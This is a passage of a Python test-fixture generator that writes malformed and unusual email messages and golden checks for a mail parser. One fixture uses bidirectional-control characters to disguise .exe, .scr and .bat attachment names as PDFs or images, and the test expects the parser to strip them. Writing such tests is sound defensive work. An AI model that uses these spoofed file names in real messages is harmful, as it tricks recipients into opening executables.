--============_-1201422494==_============
Content-Type: application/msword; name="PGP_Cmts_on_12-14-01_Pkg.txt"
Content-Disposition: attachment; filename="PGP_Cmts_on_12-14-01_Pkg.txt"
Content-Transfer-Encoding: x-uuencode

%s`
--============_-1201422494==_============--
""" % "".join(binascii.b2a_uu(UU_FILE[i:i + 45]).decode() for i in range(0, len(UU_FILE), 45)), {
    "subject": "PGP Comments on RTO West Release of Dec. 14",
    "filenames": ["PGP_Cmts_on_12-14-01_Pkg.txt"],
    "part_text_contains": ["Comments on the RTO West release of December 14, 2001.\r\nSee the attached tables.\r\n"],
})

# The header block runs straight into the body, with no blank line: into
# the MIME preamble and first boundary, or into the text itself.
write("header_no_blank_line_multipart", """Message-ID: <nobreak-1@example.org>
Date: Tue, 17 Mar 2026 09:55:00 -0700
From: James Hill <james@example.org>
To: support@docket.example
Subject: No blank line before the preamble
MIME-Version: 1.0
Content-Type: multipart/alternative;
 boundary="------------020203040006070307010003"
This is a multi-part message in MIME format.
--------------020203040006070307010003
Content-Type: text/plain; charset=ISO-8859-1
Content-Transfer-Encoding: quoted-printable

The upload fails with error 413 since this morning.
--------------020203040006070307010003
Content-Type: text/html; charset=ISO-8859-1
Content-Transfer-Encoding: quoted-printable

<p>The upload fails with <b>error 413</b> since this morning.</p>
--------------020203040006070307010003--
""", {
    "subject": "No blank line before the preamble",
    "text_contains": ["The upload fails with error 413 since this morning."],
    "html_contains": ["<b>error 413</b>"],
})

write("header_no_blank_line_text", """From: cron@host.example
To: support@docket.example
Subject: Backup report
Date: Tue, 17 Mar 2026 10:00:00 +0000
Message-ID: <nobreak-2@host.example>
Backup of /srv finished with 2 warnings.
Details are in /var/log/backup.log.
""", {
    "subject": "Backup report",
    "text_contains": ["Backup of /srv finished with 2 warnings.\nDetails are in /var/log/backup.log."],
})

# A line of junk before the header fields (a mail forwarded by a script
# that prepends a marker): the fields, and the charset, still count.
write("junk_line_before_header", "", {
    "subject": "Contact from Server",
    "text_contains": ["Odeslano dne: Čtvrtek 2. srpna 2018"],
}, raw_bytes=b"""---- Original email message ----
Return-Path: web@host.example
To: helpdesk@docket.example
Subject: Contact from Server
X-PHP-Originating-Script: 500:kontakt-info.inc.php
From: web@host.example
Content-Type: text/html; charset="Windows-1250"
Message-Id: <20180802145828.58E7387959@host.example>
Date: Thu, 2 Aug 2018 16:58:28 +0200 (CEST)

<p>Contact form</p>
<p>Odeslano dne: """ + "Čtvrtek".encode("cp1250") + b""" 2. srpna 2018 16:58.28</p>
""")

# A real person's address written with the DNS root's trailing dot.
write("address_trailing_dot", """From: "Clement.Si" <Claudia.Shu@yahoo.com.>
To: support@docket.example, ops@example.org.
Subject: Lean production
Date: Tue, 17 Mar 2026 10:05:00 +0800
Message-ID: <dot-1@yahoo.com>
Content-Type: text/plain; charset=UTF-8

Please call me back.
""", {
    "subject": "Lean production",
    "from_name": "Clement.Si",
    "to_names": ["", ""],
})

# Bidirectional controls in file names: "invoice<RLO>fdp.exe" shows as
# "invoiceexe.pdf". They are removed, in every way a name can be written.
write("bidi_control_filenames", """From: mallory@example.net
To: support@docket.example
Subject: Your invoices
Date: Tue, 17 Mar 2026 10:10:00 +0000
Message-ID: <bidi-1@example.net>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="bd"

--bd
Content-Type: text/plain; charset=UTF-8

Please open the invoices.
--bd
Content-Type: application/octet-stream
Content-Disposition: attachment; filename*=UTF-8''invoice%%E2%%80%%AEfdp.exe
Content-Transfer-Encoding: base64

%s
--bd
Content-Type: application/octet-stream
Content-Disposition: attachment; filename="=?UTF-8?B?%s?="
Content-Transfer-Encoding: base64

%s
--bd
Content-Type: application/octet-stream
Content-Disposition: attachment; filename="%s"
Content-Transfer-Encoding: base64

%s
--bd--
""" % (b64(PDF), base64.b64encode("report\u2067\u202egpj.scr\u2069.txt".encode()).decode(), b64(PDF),
       "scan\u200f\u202bcod.bat", b64(PDF)), {
    "subject": "Your invoices",
    "filenames": ["invoicefdp.exe", "reportgpj.scr.txt", "scancod.bat"],
})

# One broken mailbox in a list (an empty <>, spaces in an address) spoils
# the whole list for the strict parser; the others still count, with
# their names.
write("address_list_one_broken", """From: "Yangzhou ABC Lighting Equipment " <>, "LTD" <ly@example.com>
To: "your secret past" <power quadrant system@example.com>, ok@example.org
Cc: "finances8@loans.example"
Subject: new design solar street lights
Date: Tue, 17 Mar 2026 10:15:00 +0800
Message-ID: <list-1@example.com>
Content-Type: text/plain; charset=UTF-8

Dear purchasing manager,
""", {
    "subject": "new design solar street lights",
    "from_name": "LTD",
    "to_names": ["your secret past", ""],
})
# (The Cc is an address in quotes alone: it is no name.)

# A From field with no usable address: a second From field has one, or
# Reply-To says where the answers go.
write("from_first_broken", """From: [??????]
Reply-To: reghk@qq.example
From: =?utf-8?B?6YO955C5?= <ghgbwum@185.example>
To: <support@docket.example>
Subject: Register a company in Hong Kong
Date: Tue, 17 Mar 2026 10:20:00 +0800
Message-ID: <from2-1@185.example>
Content-Type: text/plain; charset=UTF-8

Offer.
""", {
    "subject": "Register a company in Hong Kong",
    "from_name": "都琹",
})

write("from_without_address", """From: "=?GB2312?B?ztI=?=" <>
To: "377861373" <377861373@qq.example>
Reply-To: <vipyiming@126.example>
Subject: Newsletter
Date: Tue, 17 Mar 2026 10:25:00 +0800
Message-ID: <from3-1@126.example>
Content-Type: text/plain; charset=UTF-8

News.
""", {
    "subject": "Newsletter",
})

# UTF-8 labelled US-ASCII. Its bytes 0x81, 0x8D, 0x8F, 0x90 and 0x9D
# (in Á, Í, Ï, Ð, Ý, ∏) have no Windows-1252 reading, so reading the label
# as Windows-1252 and undoing that cannot give the text back.
write("utf8_labelled_us_ascii", """From: Sigurdur <sigurdur@example.is>
To: support@docket.example
Subject: Names
Date: Tue, 17 Mar 2026 10:30:00 +0000
Message-ID: <ascii-utf8-1@example.is>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 8bit

Ásgeir, Íris, Ïsak, Ðóra and Ýmir: ∏ f(i) = 1, 请查收.
""", {
    "subject": "Names",
    "text_contains": ["Ásgeir, Íris, Ïsak, Ðóra and Ýmir: ∏ f(i) = 1, 请查收."],
})

# A comma inside an encoded word ("Bürling, Andreas") is part of the name:
# the list is not split there.
write("address_comma_in_encoded_word", """From: =?iso-8859-1?Q?B=FCrling,=20Andreas?= <andreas@example.com>
To: support@docket.example
Subject: Comma in a name
Date: Tue, 17 Mar 2026 10:35:00 +0100
Message-ID: <comma-1@example.com>
Content-Type: text/plain; charset=iso-8859-1

Hallo.
""", {
    "subject": "Comma in a name",
    "from_name": "Bürling, Andreas",
})

# ---------------------------------------------------------------- goldens

for name, checks in CHECKS.items():
    path = os.path.join(HERE, name + ".golden.json")
    if os.path.exists(path):
        with open(path) as f:
            g = json.load(f)
    else:
        g = {}
    g["checks"] = checks
    with open(path, "w") as f:
        json.dump(g, f, ensure_ascii=False, indent=2, sort_keys=True)
        f.write("\n")
print(len(CHECKS), "messages")
